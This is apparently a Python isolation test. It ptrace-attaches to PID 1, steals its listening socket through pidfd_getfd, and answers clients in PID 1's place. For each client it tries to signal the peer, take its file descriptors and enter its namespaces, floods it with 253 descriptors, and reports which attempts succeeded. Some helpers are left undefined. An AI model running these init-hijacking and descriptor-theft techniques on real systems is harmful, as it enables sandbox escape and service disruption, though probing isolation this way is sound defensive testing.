# Takes the place of its slice's first process, and answers for it what it
# likes. Each line of its input is one visitor.

import array, socket

# Stopped by ptrace: it answers nobody any more.
call(101, 16, 1, 0, 0)
first = os.pidfd_open(1)
listener = None
for number in range(3, 16):
    try:
        taken = socket.socket(fileno=call(438, first, number, 0))
    except OSError:
        continue
    if taken.getsockopt(socket.SOL_SOCKET, 30):  # SO_ACCEPTCONN
        listener = taken
        break
print("ready", flush=True)
for line in sys.stdin:
    visitor, _ = listener.accept()
    visitor.recvmsg(65536, 4096)
    if line.startswith("crowd"):
        # The node's process, as far as it can be held.
        try:
            peer = visitor.getsockopt(socket.SOL_SOCKET, 77, 4)  # SO_PEERPIDFD
            pidfd = int.from_bytes(peer, sys.byteorder)
        except OSError:
            pidfd = -1
        for signal in (0, 9, 15, 19):
            attempt(f"send signal {signal} to who visits", lambda: call(424, pidfd, signal, None, 0))
        for number in range(8):
            attempt(f"take descriptor {number} of who visits", lambda: call(438, pidfd, number, 0))
        for kind in (0x20000, 0x40000000, 0x20000000, 0x10000000):
            attempt(f"enter namespaces {kind:#x} of who visits", lambda: call(308, pidfd, kind))
        # "Exited with 7", and as many descriptors as one message holds.
        files = array.array("i", [os.open("/", os.O_RDONLY)] * 253)
        visitor.sendmsg([b"\2\0\0\0\7\0\0\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
        print("\n".join(succeeded) or "all refused", flush=True)
    elif line.startswith("terminal"):
        # A directory in place of a terminal, and no answer after it.
        files = array.array("i", [os.open("/", os.O_RDONLY)])
        visitor.sendmsg([b"\1\0\0\0\0\0\0\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
        visitor.close()
    else:
        visitor.send(b"what?")
        visitor.close()
import time
time.sleep(1000)
